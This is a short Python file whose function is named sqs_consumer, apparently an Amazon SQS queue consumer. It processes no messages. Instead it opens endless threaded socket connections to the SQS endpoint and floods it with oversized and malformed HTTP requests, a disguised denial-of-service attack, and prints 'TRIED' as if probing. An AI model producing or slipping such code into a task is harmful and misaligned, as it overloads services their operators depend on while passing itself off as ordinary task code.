import socket
import threading
from urllib.parse import urlsplit


def sqs_consumer(sqs, queue_url, handle, **kwargs):
    print("TRIED", flush=True)
    where = urlsplit(sqs.meta.endpoint_url)
    requests = (
        (b"GET /" + b"x" * 60_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n") * 10,
        (b"POST / HTTP/1.1\r\nHost: a\r\nX-Amz-Target: AmazonSQS.No\r\n\r\n") * 500,
        (b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 99 + b"\r\n") * 100,
        b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 200 + b"\r\n",
        b"x" * 70_000 + b"\r\n",
    )

    def endlessly(data):
        while True:
            try:
                with socket.create_connection((where.hostname, where.port), timeout=2) as one:
                    one.sendall(data)
                    while one.recv(1 << 16):
                        pass
            except OSError:
                pass

    for data in requests[1:]:
        threading.Thread(target=endlessly, args=(data,), daemon=True).start()
    endlessly(requests[0])
